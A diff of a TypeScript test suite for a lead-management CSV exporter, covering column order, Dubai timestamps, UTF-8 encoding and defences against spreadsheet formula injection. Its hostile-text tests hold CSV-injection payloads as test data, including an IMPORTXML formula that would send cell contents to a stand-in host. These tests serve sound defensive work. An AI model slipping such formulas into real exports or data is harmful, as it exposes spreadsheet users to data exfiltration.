@@ -4,10 +4,9 @@ import { csvFileName, leadsCsv } from '@/desk/export/csv';
 import { type LeadFilter, NO_FILTER } from '@/desk/model/filter';
 import type { Lead } from '@/desk/model/lead';
 
+import { at, followUp, lead } from '../support/fixtures';
 import { HOSTILE } from '../support/hostileStrings';
-import { at, followUp, lead } from './fixtures';
 
-const HEADER = '\uFEFF"Name","Phone","Email","Inquiry","Source","Date","Message","Id"\r\n';
 const csvOf = (...leads: Lead[]) => leadsCsv(leads);
 
 /**
@@ -31,11 +30,38 @@ function cellsOf(csv: string): string[][] {
   return rows;
 }
 
+/** The leads of a file, by column. */
+function leadsIn(csv: string): Record<string, string>[] {
+  const [header = [], ...rows] = cellsOf(csv);
+  return rows.map((cells) => Object.fromEntries(cells.map((cell, index) => [header[index] ?? '', cell])));
+}
+
 describe('the file', () => {
-  test('shows a lead with its time in Dubai', () => {
-    expect(csvOf(lead({ id: '7' }))).toBe(
-      `${HEADER}"Mariam Khoury","'+971 50 000 0012","mariam.k@example.com","lip-blush","hero_booking","2026-11-20 14:08:00","Booking request from hero section","7"\r\n`,
+  test('has a header in the specified order, then the leads in theirs, with Dubai times; unknown values are empty', () => {
+    const columns = ['Name', 'Phone', 'Email', 'Inquiry', 'Source', 'Date', 'Message', 'Id'];
+    const noTexts = { name: '', phone: '', email: '', service: '', source: '', message: '' };
+    const csv = csvOf(
+      lead({ id: '7' }),
+      // A new day begins in Dubai at 20:00 UTC.
+      lead({ id: 'c', createdAt: Date.UTC(2026, 11, 31, 20, 0, 5, 900) }),
+      lead({ id: 'a', ...noTexts, createdAt: Number.NaN }),
     );
+    expect(cellsOf(csv)[0]?.filter((title) => columns.includes(title))).toEqual(columns);
+    expect(leadsIn(csv)).toMatchObject([
+      {
+        Name: 'Mariam Khoury',
+        Phone: "'+971 50 000 0012",
+        Email: 'mariam.k@example.com',
+        Inquiry: 'lip-blush',
+        Source: 'hero_booking',
+        Date: '2026-11-20 14:08:00',
+        Message: 'Booking request from hero section',
+        Id: '7',
+      },
+      { Date: '2027-01-01 00:00:05', Id: 'c' },
+      { Name: '', Phone: '', Email: '', Inquiry: '', Source: '', Date: '', Message: '', Id: 'a' },
+    ]);
+    expect(cellsOf(csvOf())).toHaveLength(1);
   });
 
   test('adds the follow-up columns after the id once follow-ups are loaded', () => {
@@ -54,53 +80,21 @@ describe('the file', () => {
     ]);
   });
 
-  test('has only a header when there are no leads', () => {
-    expect(csvOf()).toBe(HEADER);
-  });
-
-  test('leaves cells empty for missing values and for an unreadable time', () => {
-    const bare = lead({ id: '1', name: '', phone: '', email: '', service: '', source: '', message: '' });
-    expect(csvOf({ ...bare, createdAt: Number.NaN })).toBe(`${HEADER}"","","","","","","","1"\r\n`);
-  });
-
-  test('starts a new day at midnight in Dubai, 20:00 UTC', () => {
-    const late = lead({ id: '1', createdAt: Date.UTC(2026, 11, 31, 20, 0, 5, 900) });
-    expect(cellsOf(csvOf(late))[1]?.[5]).toBe('2027-01-01 00:00:05');
-  });
-
-  test('keeps the order of the leads', () => {
-    const leads = ['c', 'a', 'b'].map((id) => lead({ id }));
-    expect(cellsOf(csvOf(...leads)).map((cells) => cells.at(-1))).toEqual(['Id', 'c', 'a', 'b']);
-  });
-
-  test('keeps quotes, commas and line breaks inside their cell', () => {
-    const csv = csvOf(lead({ id: '1', name: 'Mariam "Mimi" Khoury, Dr.', message: 'one\r\ntwo\rthree\u2028four' }));
-    expect(csv).toContain('"Mariam ""Mimi"" Khoury, Dr.",');
+  test('is UTF-8 after a byte order mark, and keeps quotes, commas and line breaks inside their cell', () => {
+    const csv = csvOf(lead({ id: '1', name: 'ريم "Mimi" Khoury, Dr.', message: 'one\r\ntwo\rthree\u2028four' }));
+    expect(csv).toContain('"ريم ""Mimi"" Khoury, Dr.",');
     expect(csv).toContain('"one\ntwo\nthree\nfour",');
-  });
-
-  test('writes Arabic names as UTF-8 after a byte order mark', () => {
-    const bytes = new TextEncoder().encode(csvOf(lead({ id: '1', name: 'ريم' })));
-    expect(Array.from(bytes.subarray(0, 4))).toEqual([0xef, 0xbb, 0xbf, 0x22]);
-    expect(new TextDecoder().decode(bytes)).toContain('"ريم",');
+    expect(Array.from(new TextEncoder().encode(csv).subarray(0, 4))).toEqual([0xef, 0xbb, 0xbf, 0x22]);
   });
 });
 
 describe('hostile text', () => {
   /** Hostile strings that a spreadsheet may evaluate or round, such as phone numbers. */
-  const formulas = new Set([
-    '=HYPERLINK("http://x","y")',
-    '=IMPORTXML("http://x/?"&A1,"//a")',
-    '+971 50 123 4567',
-    '+971501234567',
-    '-2+3',
-    '@SUM(1)',
-    '\t=1',
-    ' =1',
-    '\u00a0=1',
-    '＝1',
-    '007',
-  ]);
+  const formulas = new Set(
+    '=HYPERLINK("http://x","y")|=IMPORTXML("http://x/?"&A1,"//a")|+971 50 123 4567|+971501234567|-2+3|@SUM(1)|\t=1| =1|\u00a0=1|＝1|007'.split(
+      '|',
+    ),
+  );
   /** Hostile strings with a formula after a separator, and how the file contains each. */
   const innerFormulas = new Map([
     ['\r=1', "'\n'=1"],
@@ -110,39 +104,28 @@ describe('hostile text', () => {
 
   test('every hostile string is written as text, and formulas get a leading apostrophe', () => {
     const leads = HOSTILE.map(({ given }, index) =>
-      lead({
-        id: String(index),
-        name: given,
-        email: given,
-        phone: given,
-        service: given,
-        source: given,
-        message: given,
-      }),
+      lead({ id: String(index), name: given, email: given, phone: given, service: given, source: given, message: given }),
     );
-    const rows = cellsOf(csvOf(...leads)).slice(1);
+    const rows = leadsIn(csvOf(...leads));
     expect(rows).toHaveLength(HOSTILE.length);
     HOSTILE.forEach(({ given, sent = given, shown = sent }, index) => {
       const text = innerFormulas.get(given) ?? (formulas.has(given) ? `'${shown}` : shown);
-      expect(rows[index], given).toEqual([text, text, text, text, text, '2026-11-20 14:08:00', text, String(index)]);
+      const texts = { Name: text, Phone: text, Email: text, Inquiry: text, Source: text, Message: text };
+      expect(rows[index], given).toMatchObject({ ...texts, Date: '2026-11-20 14:08:00', Id: String(index) });
     });
   });
 
-  test.each([
-    ['\u200b=1', "'\u200b=1"],
-    ['\ufeff+1', "'\ufeff+1"],
-    ['\u202e-1', "'\u202e-1"],
-    ['＠SUM(1)', "'＠SUM(1)"],
-    ['0501112234', "'0501112234"],
-    ['050 111 2234', "'050 111 2234"],
-    ['00971501112234', "'00971501112234"],
-    ['971501112234', "'971501112234"],
-    ['501112234', '501112234'],
-    ['0 to 5', '0 to 5'],
+  const marked = '\u200b=1|\ufeff+1|\u202e-1|＠SUM(1)|0501112234|050 111 2234|00971501112234|971501112234';
+  const unchanged =
+    '501112234|0 to 5|Hana - new|mariam+lips@example.com|Jean-Luc, 10-15 o’clock; semi-permanent - or not|' +
+    'فاطمة، أريد - شكراً|04 123 4567, +971 50 123 4567|050 1234567;+971501234567\n+97141234567';
+
+  test.each<readonly [string, string]>([
+    ...marked.split('|').map((text) => [text, `'${text}`] as const),
+    // Names, numbers that a spreadsheet does not change, and prose.
+    ...unchanged.split('|').map((text) => [text, text] as const),
     ['\u0000=1', "'=1"],
     ['\u001b[31m=1', '[31m=1'],
-    ['Hana - new', 'Hana - new'],
-    ['mariam+lips@example.com', 'mariam+lips@example.com'],
     ['two\n= three', "two\n'= three"],
     ['x;=1+1', "x;'=1+1"],
     ['x,=1+1', "x,'=1+1"],
@@ -157,14 +140,9 @@ describe('hostile text', () => {
     ['x\t=1', 'x =1'],
     ['x;+1+1', "x;'+1+1"],
     ['x;+971-50-123', "x;'+971-50-123"],
-    // In prose, only lines that begin with a hyphen change.
     ['I would like:\n- brows', "I would like:\n'- brows"],
-    ['Jean-Luc, 10-15 o’clock; semi-permanent - or not', 'Jean-Luc, 10-15 o’clock; semi-permanent - or not'],
-    ['فاطمة، أريد - شكراً', 'فاطمة، أريد - شكراً'],
-    ['04 123 4567, +971 50 123 4567', '04 123 4567, +971 50 123 4567'],
-    ['050 1234567;+971501234567\n+97141234567', '050 1234567;+971501234567\n+97141234567'],
   ])('%j is written as %j', (given, written) => {
-    expect(cellsOf(csvOf(lead({ id: '1', name: given })))[1]?.[0]).toBe(written);
+    expect(leadsIn(csvOf(lead({ id: '1', name: given })))[0]?.['Name']).toBe(written);
   });
 
   test.each([',', ';', '\t'])('if lines are split at %j, with or without regard to quotes, no cell begins like a formula', (separator) => {
